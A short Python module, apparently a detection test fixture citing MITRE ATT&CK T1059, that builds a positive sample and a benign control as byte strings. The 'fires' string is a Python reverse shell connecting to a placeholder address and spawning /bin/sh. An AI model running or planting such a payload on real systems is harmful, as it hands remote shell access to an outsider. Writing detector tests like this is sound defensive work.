"""https://attack.mitre.org/techniques/T1059/"""

from __future__ import annotations

_CONNECT = "import os, pty, socket\n\ns = socket.socket()\ns.connect(('198.51.100.7', 1))\n"


def fires() -> bytes:
    return (_CONNECT + "os.dup2(s.fileno(), 0)\npty.spawn('/bin/sh')\n").encode()


def quiet() -> bytes:
    return (_CONNECT + "s.sendall(b'hello')\n").encode()
